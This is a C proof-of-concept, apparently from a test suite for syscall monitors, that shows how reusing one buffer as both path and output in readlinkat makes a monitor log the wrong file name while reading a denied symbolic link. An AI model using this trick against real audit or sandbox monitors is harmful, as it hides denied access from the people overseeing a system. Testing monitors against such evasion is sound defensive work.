// SPDX-License-Identifier: GPL-2.0-only
/*
 * Claim: the log names the object that a call was made for, although the
 * name is gone from memory when the call returns (catalogue A6).
 *
 *	target				kernel			monitor
 *	readlinkat(name, name) ------>	reads name
 *					the answer overwrites it
 *					returns ------------->	reads name: logs
 *								what is there now
 *
 * The sentinel is a symbolic link. Reading it is permitted, and to be logged.
 * Winning prints DATA and where the denied link leads.
 */
#include "attack.h"

/* Reads the link `name` into `answer`, which may be the same memory. */
static void read_link(struct run *run, char *name, char *answer)
{
	long size = syscall(SYS_readlinkat, JUNK(way_from), name, answer, (long)CONTENT_MAX - 1);

	run->attempts = 1;
	run_result(run, size);
	if (size < 0)
		return;
	memcpy(run->content, answer, size);
	run->content[size] = '\0';
}

static void read_link_onto_itself(struct run *run, const char *name)
{
	static char both[PATH_MAX];

	strncpy(both, name, sizeof(both) - 1);
	read_link(run, both, both);
}

int main(int argc, char **argv)
{
	struct run run = run_begin(argc, argv);
	char answer[CONTENT_MAX];

	switch (run.mode) {
	case MODE_BENIGN:
		read_link_onto_itself(&run, run.allowed);
		break;
	case MODE_DIRECT:
		read_link(&run, (char *)(uintptr_t)run.denied, answer);
		break;
	case MODE_ATTACK:
		read_link_onto_itself(&run, run.denied);
		break;
	}
	run_end(&run);
}
